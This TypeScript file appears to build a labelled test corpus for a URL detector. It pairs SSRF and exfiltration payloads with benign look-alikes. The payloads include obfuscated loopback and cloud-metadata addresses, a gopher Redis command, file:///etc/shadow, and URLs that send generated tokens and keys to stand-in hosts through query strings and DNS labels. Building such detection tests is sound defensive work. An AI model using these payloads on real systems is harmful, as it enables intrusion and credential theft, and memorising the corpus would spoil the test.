import type { CorpusCase } from "../types";
import { gen, b64, b64url, hexenc, b32enc } from "./_gen";

const g = gen(5150);
const out: CorpusCase[] = [];
const U = (id: string, category: string, label: "positive" | "benign", text: string, note?: string) =>
  out.push({ id: `k-${id}`, kind: "url", category: `heldoutk-${category}`, label, text, ...(note ? { note } : {}) });
const S = (id: string, cat: string, text: string, note?: string) => U(id, cat, "positive", text, note);
const N = (id: string, cat: string, text: string, note?: string) => U(id, cat, "benign", text, note);

// ---- SSRF: loopback in many spellings
S("lo-plain", "url-ssrf-loopback", "http://127.0.0.1:8080/admin/users");
S("lo-localhost", "url-ssrf-loopback", "http://localhost:9090/api/v1/targets");
S("lo-upper", "url-ssrf-loopback", "http://LocalHost:3000/__debug/env");
S("lo-decimal", "url-ssrf-loopback", "http://2130706433/server-status");
S("lo-hex", "url-ssrf-loopback", "http://0x7f000001:5000/graphql");
S("lo-octal", "url-ssrf-loopback", "http://017700000001/");
S("lo-short", "url-ssrf-loopback", "http://127.1/phpinfo.php");
S("lo-padded", "url-ssrf-loopback", "http://127.000.000.001:8500/v1/agent/self");
S("lo-octal-dotted", "url-ssrf-loopback", "http://0177.0.0.1/metrics");
S("lo-zero", "url-ssrf-loopback", "http://0.0.0.0:6379/");
S("lo-zero-short", "url-ssrf-loopback", "http://0:8000/internal/flags");
S("lo-v6", "url-ssrf-loopback", "http://[::1]:2375/containers/json");
S("lo-v6-long", "url-ssrf-loopback", "http://[0:0:0:0:0:0:0:1]:8080/actuator/heapdump");
S("lo-v6-mapped", "url-ssrf-loopback", "http://[::ffff:127.0.0.1]/admin");
S("lo-v6-mapped-hex", "url-ssrf-loopback", "http://[::ffff:7f00:1]:9200/_cluster/health");
S("lo-sub-localhost", "url-ssrf-loopback", "http://grafana.localhost/api/admin/settings");
S("lo-localdomain", "url-ssrf-loopback", "http://localhost.localdomain:15672/api/users");
S("lo-userinfo", "url-ssrf-loopback", "http://example.com@127.0.0.1:8080/manage", "userinfo trick: real host is 127.0.0.1");
S("lo-trailing-dot", "url-ssrf-loopback", "http://localhost.:4040/api/tunnels");
S("lo-unicode-digits", "url-ssrf-loopback", "http://①②⑦.⓪.⓪.①/admin", "enclosed digits normalise to 127.0.0.1 under IDNA");
S("lo-gopher", "url-ssrf-loopback", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Ftmp%0D%0A");
S("lo-dict", "url-ssrf-loopback", "dict://localhost:11211/stats");
S("lo-file", "url-ssrf-loopback", "file:///etc/shadow");

// ---- SSRF: cloud metadata
S("md-aws", "url-ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/");
S("md-aws-token", "url-ssrf-metadata", "http://169.254.169.254/latest/api/token");
S("md-aws-v6", "url-ssrf-metadata", "http://[fd00:ec2::254]/latest/meta-data/instance-id");
S("md-gcp", "url-ssrf-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token");
S("md-gcp-short", "url-ssrf-metadata", "http://metadata/computeMetadata/v1/project/project-id");
S("md-azure", "url-ssrf-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/");
S("md-ecs", "url-ssrf-metadata", "http://169.254.170.2/v2/credentials/5f3e8a0c-1b2d-4e6f-9a7b-0c1d2e3f4a5b");
S("md-alibaba", "url-ssrf-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/");
S("md-decimal", "url-ssrf-metadata", "http://2852039166/latest/user-data");
S("md-hex", "url-ssrf-metadata", "http://0xA9FEA9FE/latest/meta-data/");
S("md-hex-dotted", "url-ssrf-metadata", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/hostname");
S("md-octal", "url-ssrf-metadata", "http://0251.0376.0251.0376/latest/meta-data/");
S("md-mixed", "url-ssrf-metadata", "http://169.0xfe.43518/latest/meta-data/", "169.254.169.254 as a.b.c with hex byte and 16-bit tail");
S("md-v6-mapped", "url-ssrf-metadata", "http://[::ffff:169.254.169.254]/latest/meta-data/");
S("md-v6-mapped-hex", "url-ssrf-metadata", "http://[::ffff:a9fe:a9fe]/computeMetadata/v1/");
S("md-instance-data", "url-ssrf-metadata", "http://instance-data/latest/meta-data/public-keys/0/openssh-key");
S("md-oracle", "url-ssrf-metadata", "http://169.254.169.254/opc/v2/instance/");
S("md-linklocal-other", "url-ssrf-metadata", "http://169.254.0.1:8080/status");
S("md-gcp-dot", "url-ssrf-metadata", "http://metadata.google.internal./computeMetadata/v1/instance/attributes/kube-env");

// ---- SSRF: private networks / internal names
S("pv-10", "url-ssrf-private", "http://10.0.12.7:9200/_cat/indices?v");
S("pv-10-short", "url-ssrf-private", "http://10.1/cgi-bin/luci");
S("pv-172", "url-ssrf-private", "http://172.16.4.2:8500/v1/kv/?recurse");
S("pv-172-31", "url-ssrf-private", "https://172.31.255.10/jenkins/script");
S("pv-192", "url-ssrf-private", "http://192.168.1.1/userRpm/LoginRpm.htm");
S("pv-192-decimal", "url-ssrf-private", "http://3232235777/", "192.168.1.1 as a decimal integer");
S("pv-v6-ula", "url-ssrf-private", "http://[fd12:3456:789a::10]:8080/admin");
S("pv-v6-linklocal", "url-ssrf-private", "http://[fe80::1%25eth0]/");
S("pv-v6-mapped-10", "url-ssrf-private", "http://[::ffff:10.0.0.1]:2379/v2/keys/");
S("pv-k8s", "url-ssrf-private", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets");
S("pv-k8s-fqdn", "url-ssrf-private", "http://vault.vault.svc.cluster.local:8200/v1/sys/seal-status");

// ---- exfiltration
const gh = g.ghp();
S("ex-token-query", "url-exfil", `https://collect.example.net/log?token=${gh}`);
S("ex-aws-query", "url-exfil", `https://stats.example.org/p.gif?k=${g.awsId()}&s=${encodeURIComponent(g.awsSecret())}`);
S("ex-openai-search", "url-exfil", `https://www.example.com/search?q=${g.openai()}`);
S("ex-env-b64", "url-exfil", `https://drop.example.net/u?d=${b64(`DATABASE_URL=postgres://app:${g.pw()}@10.0.0.4/app\nSTRIPE_SECRET_KEY=${g.stripe()}\n`).replace(/=+$/, "")}`);
S("ex-env-b64url-path", "url-exfil", `https://cdn.example.org/i/${b64url(`SLACK_BOT_TOKEN=${g.xoxb()}`)}/pixel.png`);
S("ex-hex-path", "url-exfil", `https://img.example.com/${hexenc(`aws_secret_access_key=${g.awsSecret()}`)}.gif`);
const secret1 = b32enc(`NPM_TOKEN=${g.npm()}`).toLowerCase();
S("ex-dns-b32", "url-exfil", `https://${secret1.match(/.{1,50}/g)!.join(".")}.d.exfil.example.com/`, "base32 of NPM_TOKEN line split over DNS labels");
const hexlab = hexenc(`ghtoken:${g.ghp()}`);
S("ex-dns-hex", "url-exfil", `http://${hexlab.match(/.{1,60}/g)!.join(".")}.ns.example.net/`, "hex of a GitHub token split over DNS labels");
const b64lab = b64url(`-----BEGIN OPENSSH PRIVATE KEY-----\n${g.an(90)}`);
S("ex-dns-b64url", "url-exfil", `https://${b64lab.match(/.{1,40}/g)!.join(".")}.c2.example.org/x`);
S("ex-jwt-path", "url-exfil", `https://hooks.example.com/recv/${g.jwt({ sub: "admin", role: "owner", org: "acme", exp: 1765000000 })}`);
S("ex-slack-query", "url-exfil", `http://example.net/?slack=${g.xoxp()}&ch=general`);
S("ex-pct-env", "url-exfil", `https://paste.example.org/new?c=${encodeURIComponent(`ANTHROPIC_API_KEY=${g.anthropic()}\nHF_TOKEN=${g.hf()}`)}`);
S("ex-basic-userinfo", "url-exfil", `https://deploy:${g.glpat()}@mirror.example.net/acme/infra.git`);
S("ex-stripe-fragment-like", "url-exfil", `https://analytics.example.com/e?event=init&api_key=${g.stripe()}&ts=1764840000`);
S("ex-ssh-key-b64", "url-exfil", `https://example.org/upload?f=id_rsa&data=${encodeURIComponent(b64(g.pem("RSA PRIVATE KEY", 600)))}`);
S("ex-private-host-token", "url-exfil", `http://192.168.50.10:8000/steal?sg=${g.sendgrid()}`);
S("ex-password-param", "url-exfil", `https://forms.example.com/submit?user=dbadmin&password=${encodeURIComponent(g.pw())}&host=db-prod-1`);
S("ex-dns-hex-aws", "url-exfil", `https://${hexenc(g.awsId())}.${hexenc(g.awsSecret().slice(0, 28))}.${hexenc(g.awsSecret().slice(28))}.q.example.com/`);

// ---- benign look-alikes
N("bn-blog", "url-benign", "https://www.example.com/blog/2026/12/how-we-cut-p99-latency-in-half-with-connection-pooling");
N("bn-commit", "url-benign", `https://git.example.com/acme/app/commit/${g.hex(40)}`);
N("bn-blob-line", "url-benign", `https://git.example.com/acme/app/blob/${g.hex(40)}/src/server/index.ts#L40-L58`);
N("bn-digest", "url-benign", `https://registry.example.org/v2/library/nginx/manifests/sha256:${g.hex(64)}`);
N("bn-cdn", "url-benign", `https://cdn.example.com/_next/static/chunks/pages/_app-${g.hex(16)}.js`);
N("bn-uuid-file", "url-benign", `https://files.example.com/d/${g.uuid()}/quarterly-report.pdf`);
N("bn-search-keys", "url-benign", "https://www.example.net/search?q=how+to+rotate+aws+access+keys+safely");
N("bn-login-redirect", "url-benign", "https://app.example.com/login?redirect=%2Fdashboard%2Fbilling&lang=en");
N("bn-oauth-authorize", "url-benign", `https://auth.example.com/oauth/authorize?client_id=acme-web&response_type=code&scope=openid%20profile&state=${g.an(22)}&code_challenge=${g.s(43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")}&code_challenge_method=S256&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb`, "PKCE challenge and state are random but not secrets");
N("bn-download-checksum", "url-benign", `https://dl.example.org/toolkit/v1.4.2/toolkit-linux-x64.tar.gz?checksum=sha256:${g.hex(64)}`);
N("bn-image-cdn", "url-benign", `https://images.example.com/photo-${g.s(13, "0123456789")}-${g.hex(12)}?w=1200&q=80&fm=webp&fit=crop`);
N("bn-utm", "url-benign", "https://shop.example.com/winter-sale?utm_source=newsletter&utm_medium=email&utm_campaign=dec26&utm_content=hero");
N("bn-api-pagination", "url-benign", "https://api.example.com/v1/users/12345/orders?page=2&per_page=50&sort=-created_at");
N("bn-short-slug", "url-benign", `https://example.com/s/${g.an(10)}`);
N("bn-news-slug", "url-benign", "https://news.example.org/world/2026/12/04/central-bank-holds-rates-steady-amid-slowdown-9f3a21");
N("bn-unsubscribe", "url-benign", `https://lists.example.com/unsubscribe?u=${g.hex(25)}&id=${g.hex(10)}&e=${g.hex(10)}`, "mailing-list tracking ids");
N("bn-digit-host", "url-benign", "https://10.example.com/pricing", "public hostname that merely starts with 10");
N("bn-localhost-word", "url-benign", "https://localhost-docs.example.com/guides/getting-started");
N("bn-md-ip-in-path", "url-benign", "https://docs.example.org/security/why-169.254.169.254-is-dangerous", "metadata IP only inside a public path");
N("bn-redirect-public", "url-benign", "https://example.org/redirect?url=https%3A%2F%2Fwww.example.com%2Fpricing%3Fplan%3Dteam");
N("bn-avatar-md5", "url-benign", `https://avatars.example.com/avatar/${g.hex(32)}?s=80&d=identicon`);
N("bn-port", "url-benign", "https://status.example.com:8443/api/v2/summary.json");
N("bn-video", "url-benign", `https://video.example.com/watch?v=${g.s(11, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")}&t=142s`);
N("bn-wiki", "url-benign", "https://wiki.example.org/wiki/Private_network#Private_IPv4_addresses");
N("bn-ipv6-question", "url-benign", "https://forum.example.net/t/what-does-%5B%3A%3A1%5D-mean-in-my-nginx-config/8812");
N("bn-maps", "url-benign", "https://maps.example.com/@52.5200066,13.404954,14z/data=!3m1!4b1");
N("bn-s3-presign-public", "url-benign", `https://assets.example.com/builds/${g.hex(12)}/app.zip?X-Expires=3600&v=${g.s(8, "0123456789")}`);
N("bn-graphql-persisted", "url-benign", `https://api.example.com/graphql?operationName=Feed&extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22${g.hex(64)}%22%7D%7D`);
N("bn-npm-tarball", "url-benign", "https://registry.example.org/@types/node/-/node-22.10.1.tgz");
N("bn-fonts", "url-benign", "https://fonts.example.com/css2?family=Inter:wght@400;600;700&display=swap");
N("bn-doc-anchor", "url-benign", "https://docs.example.com/api/authentication#bearer-tokens-and-api-keys");
N("bn-ticket", "url-benign", "https://support.example.com/hc/en-us/requests/4471823?page=1#comment-99172331");
N("bn-base64-cursor", "url-benign", `https://api.example.com/v1/events?cursor=${b64(JSON.stringify({ after: 1764840000123, id: 88213 })).replace(/=+$/, "")}&limit=100`, "opaque pagination cursor, base64 of a timestamp and id");
N("bn-apikey-word-path", "url-benign", "https://docs.example.net/guides/api-keys/rotate-your-api-key");
N("bn-long-query", "url-benign", "https://flights.example.com/search?from=BER&to=LIS&depart=2026-12-19&return=2027-01-03&adults=2&cabin=economy&currency=EUR");
N("bn-gist-id", "url-benign", `https://snippets.example.com/dana/${g.hex(32)}`);
N("bn-token-word", "url-benign", "https://blog.example.com/posts/design-tokens-in-css-custom-properties");

export const cases = out;
